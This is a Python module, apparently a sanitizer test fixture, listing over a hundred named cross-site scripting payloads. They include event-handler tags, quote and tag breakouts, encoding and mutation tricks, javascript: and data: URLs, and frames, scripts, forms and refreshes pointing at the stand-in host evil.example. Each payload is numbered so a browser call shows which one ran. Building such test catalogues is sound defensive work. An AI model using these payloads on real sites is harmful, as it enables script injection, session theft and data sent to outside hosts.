"""What people write to run something in somebody else's browser. `X` stands for a call that the browser reports."""

from __future__ import annotations

from collections.abc import Iterable, Iterator

CALL = "__xss"
ELSEWHERE = "https://evil.example"
PLAYER = "player.example"  # the one host whose frames are allowed

_TEXTS = {
    # elements that run by themselves
    "script": "<script>X</script>",
    "script of another host": f"<script src={ELSEWHERE}/s.js></script>",
    "script of another host, no scheme": "<script src=//evil.example/s.js></script>",
    "module": f"<script type=module>import '{ELSEWHERE}/m.js'</script>",
    "speculation rules": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{ELSEWHERE}/"]}}]}}</script>',
    "image error": "<img src=x onerror=X>",
    "image error with slashes": "<img/src=x/onerror=X//>",
    "image error, tag without end": "<img src=x onerror=X //",
    "image error in capitals": "<IMG SRC=x OnErRoR=X>",
    "body load": "<body onload=X>",
    "details toggle": "<details open ontoggle=X>",
    "focus by itself": "<input autofocus onfocus=X>",
    "anything with focus": "<p tabindex=0 autofocus onfocus=X>",
    "video source error": "<video><source onerror=X></video>",
    "animation start": "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=X>",
    "content visibility": "<p oncontentvisibilityautostatechange=X style=content-visibility:auto>",
    "marquee": "<marquee onstart=X>",
    "unknown element": "<xss onpointerenter=X>x</xss>",
    "custom element of ours": f"<newsgraph-comments article=1 endpoint={ELSEWHERE}/graphql></newsgraph-comments>",
    # ends of what is around
    "end of a quoted attribute": '" autofocus tabindex=0 onfocus="X',
    "end of a quoted attribute and tag": '"><img src=x onerror=X>',
    "end of a single-quoted attribute": "' autofocus tabindex=0 onfocus='X",
    "end of a single-quoted attribute and tag": "'><img src=x onerror=X>",
    "unquoted attribute": "x autofocus tabindex=0 onfocus=X ",
    "backtick": "`onerror=X",
    "end of a script": "</script><script>X</script>",
    "end of JSON in a script": '"}</script><script>X</script>',
    "comment in a script": "<!--<script>",
    "end of a title": "</title><script>X</script>",
    "end of a text area": "</textarea><script>X</script>",
    "end of a style": "</style><script>X</script>",
    "end of noscript": "</noscript><img src=x onerror=X>",
    "end of a template": "</template><img src=x onerror=X>",
    "end of a comment": "--><img src=x onerror=X>",
    "odd end of a comment": "--!><img src=x onerror=X>",
    "empty comment": "<!--><img src=x onerror=X>-->",
    "conditional comment": "<!--[if gte IE 4]><script>X</script><![endif]-->",
    "CDATA": "<![CDATA[<script>X</script>]]>",
    "end of CDATA": "]]><script>X</script>",
    "processing instruction": "<?xml-stylesheet href='javascript:X'?>",
    "end of a string": "';X;//",
    "end of a double-quoted string": '";X;//',
    "escaped end of a string": "\\u0027;X;//",
    "line separator": "\u2028X\u2029",
    "template expression": "{{constructor.constructor('X')()}}",
    "template of a server": "{% X %}<%= X %>${X}#{X}",
    "our own template": "{{links}}{{config}}",
    # encodings
    "entities": "&lt;script&gt;X&lt;/script&gt;",
    "entities twice": "&amp;lt;img src=x onerror=X&amp;gt;",
    "entities without end": "&lt&#x69mg src=x onerror=X&gt",
    "UTF-7": "+ADw-script+AD4-X+ADw-/script+AD4-",
    "NUL in a name": "<scr\0ipt>X</scr\0ipt>",
    "NUL in an attribute": "<img src=x on\0error=X>",
    "full-width signs": "＜script＞X＜/script＞",
    "half a character": "\ud800<img src=x onerror=X>",
    "right to left": "\u202e<img src=x onerror=X>\u2066",
    # markup that changes when it is read again
    "math and a style": "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src=1 onerror=X&gt;'>",
    "forms within each other": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>",
    "SVG and a style": "<svg></p><style><a id='</style><img src=1 onerror=X>'>",
    "noscript and a title": "<noscript><p title='</noscript><img src=x onerror=X>'>",
    "xmp and a title": "<xmp><p title='</xmp><img src=x onerror=X>'>",
    "iframe and a title": "<iframe><p title='</iframe><img src=x onerror=X>'>",
    "template and a comment": "<template><style><!--</template><img src=x onerror=X>-->",
    "select and a style": "<select><iframe><style></select><img src=x onerror=X>",
    "annotation": "<math><annotation-xml encoding=text/html><style><img src=x onerror=X></style>",
    "plain text": "<plaintext><p title='</plaintext><img src=x onerror=X>'>",
    "shadow root": "<div><template shadowrootmode=open><img src=x onerror=X></template></div>",
    # SVG and MathML
    "SVG load": "<svg onload=X>",
    "SVG script": "<svg><script>X</script></svg>",
    "SVG script of another host": f"<svg><script href={ELSEWHERE}/s.js></script></svg>",
    "SVG animation of a link": "<svg><a><animate attributeName=href values=javascript:X /><text y=9>x</text></a></svg>",
    "SVG foreign object": "<svg><foreignObject><img src=x onerror=X></foreignObject></svg>",
    "SVG image": f"<svg><image href={ELSEWHERE}/i></svg>",
    "SVG use": f"<svg><use href={ELSEWHERE}/u#x></svg>",
    "MathML link": "<math><mi xlink:href=javascript:X>x</mi></math>",
    # addresses
    "javascript": "<a href=javascript:X>x</a>",
    "javascript in capitals": "<a href=JaVaScRiPt:X>x</a>",
    "javascript with a tab": "<a href='java&#9;script:X'>x</a>",
    "javascript with a line end": "<a href='java\nscript:X'>x</a>",
    "javascript after a control": "<a href='&#1;javascript:X'>x</a>",
    "javascript after blanks": "<a href='  javascript:X'>x</a>",
    "javascript in entities": "<a href=&#106;avascript&colon;X>x</a>",
    "javascript in long entities": "<a href=&#0000106&#0000097vascript:X>x</a>",
    "javascript by itself": "javascript:X",
    "vbscript": "<a href=vbscript:X>x</a>",
    "data as a page": "<a href='data:text/html,<script>X</script>'>x</a>",
    "data as an image": "<img src='data:image/svg+xml,<svg onload=X>'>",
    "cite": "<blockquote cite=javascript:X>x</blockquote>",
    "ping and opener": f"<a href={ELSEWHERE}/a ping={ELSEWHERE}/p target=_blank rel=opener>x</a>",
    # requests and pages of others
    "srcset": f"<img alt=x srcset='{ELSEWHERE}/a 1x, javascript:X 2x'>",
    "picture source": f"<picture><source srcset={ELSEWHERE}/a><img alt=x></picture>",
    "image of no scheme": "<img alt=x src=//evil.example/a>",
    "lowsrc, dynsrc and background": f"<img lowsrc={ELSEWHERE}/a dynsrc={ELSEWHERE}/b><table background={ELSEWHERE}/c>",
    "frame of another host": f"<iframe src={ELSEWHERE}/f></iframe>",
    "frame that looks like the player": f"<iframe src='{ELSEWHERE}\\@{PLAYER}/f'></iframe>",
    "frame of the player as a user": f"<iframe src=https://{PLAYER}@evil.example/f></iframe>",
    "frame of the player as a suffix": f"<iframe src=https://{PLAYER}.evil.example/f></iframe>",
    "frame with a document": "<iframe srcdoc='<script>parent.X</script>'></iframe>",
    "frame with both": f"<iframe src=https://{PLAYER}/v srcdoc='<script>parent.X</script>'></iframe>",
    "frame that runs": "<iframe src=javascript:parent.X></iframe>",
    "frame of data": "<iframe src='data:text/html,<script>parent.X</script>'></iframe>",
    "frame that loads": f"<iframe src=https://{PLAYER}/v onload=X></iframe>",
    "object": f"<object data={ELSEWHERE}/o></object>",
    "object that runs": "<object data=javascript:X></object>",
    "embed": f"<embed src={ELSEWHERE}/e>",
    "video poster": f"<video poster={ELSEWHERE}/p src={ELSEWHERE}/v autoplay></video>",
    "audio": f"<audio src={ELSEWHERE}/a autoplay></audio>",
    "track": f"<video><track default src={ELSEWHERE}/t></video>",
    "style sheet": f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    "preload": f"<link rel=preload as=script href={ELSEWHERE}/s.js>",
    "style import": f'<style>@import "{ELSEWHERE}/s.css"</style>',
    "style attribute": f"<p style='background:url({ELSEWHERE}/b)'>x</p>",
    "style over everything": "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "refresh that runs": "<meta http-equiv=refresh content='0;url=javascript:X'>",
    "base": f"<base href={ELSEWHERE}/>",
    "form": f"<form action={ELSEWHERE}/ id=f><button autofocus>x</button></form>",
    "button that runs": "<form><button formaction=javascript:X>x</button></form>",
    "names for ours": "<a id=config name=document></a><form name=body><input name=action></form>",
}


def payloads() -> dict[str, str]:
    """By name; each calls with its own number."""
    return {name: text.replace("X", f"{CALL}({number})") for number, (name, text) in enumerate(_TEXTS.items())}


def name_of(number: int) -> str:
    return list(_TEXTS)[number]


def packed(texts: Iterable[str], limit: int) -> Iterator[str]:
    """As many as fit into `limit` characters at a time; what is longer by itself is cut."""
    line = ""
    for text in texts:
        if line and len(line) + 1 + len(text) > limit:
            yield line
            line = ""
        line = f"{line} {text}".strip()[:limit]
    yield line
